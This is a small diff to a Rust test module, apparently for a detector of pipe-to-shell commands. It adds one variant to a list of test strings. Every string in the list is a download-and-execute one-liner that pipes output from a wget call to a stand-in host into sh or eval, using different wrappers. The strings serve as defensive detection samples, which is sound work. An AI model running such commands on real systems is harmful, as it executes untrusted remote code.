@@ -73,6 +73,7 @@ mod tests {
             b"wget -O- http://192.0.2.1/x | sh -s -- -a b",
             b"wget -O- http://192.0.2.1/x | sh /dev/stdin",
             b"wget -O- http://192.0.2.1/x | { read x; sh; }",
+            b"wget -O- http://192.0.2.1/x | ( cat | sh )",
             b"wget -O- http://192.0.2.1/x | eval \"$(cat)\"",
             b"wget -O- http://192.0.2.1/x | sh -c sh",
             b"sh -c 'wget -O- http://192.0.2.1/x' | sh",
